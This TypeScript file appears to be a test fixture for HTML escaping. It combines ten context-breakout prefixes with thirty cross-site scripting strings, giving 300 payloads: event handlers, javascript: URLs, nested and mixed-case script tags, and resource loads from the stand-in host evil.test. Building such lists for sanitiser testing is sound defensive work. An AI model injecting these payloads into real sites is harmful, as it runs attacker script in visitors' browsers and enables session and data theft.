/** Text that would run as script if not escaped: 300 payloads, each on one line. */

/** Prefixes that break out of the context of the text: an element, attribute, comment, style or script. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</p>',
  '</td></tr></table>',
  '</title></style>',
  '--><!-- -->',
  ']]>',
  '</script>',
  '&quot;&gt;',
]

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg><script href=data:,alert(1) />',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.test>',
  '<style>@import "//evil.test"</style>',
  '<base href=//evil.test>',
  '" onmouseover=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
]

export const SCRIPT_PAYLOADS: readonly string[] = WAYS_OUT.flatMap((out) => SCRIPTS.map((script) => out + script))
